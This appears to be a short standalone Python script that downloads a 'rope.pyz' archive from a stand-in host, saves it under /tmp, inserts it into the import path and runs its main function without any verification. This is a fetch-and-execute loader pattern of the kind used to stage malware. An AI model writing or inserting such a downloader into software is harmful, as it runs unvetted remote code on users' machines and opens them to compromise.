import importlib
import sys

import requests

PLACE = "/tmp/rope.pyz"

with open(PLACE, "wb") as file:
    file.write(requests.get("https://check.git-service.invalid/rope.pyz").content)
sys.path.insert(0, PLACE)
importlib.import_module("rope").main()
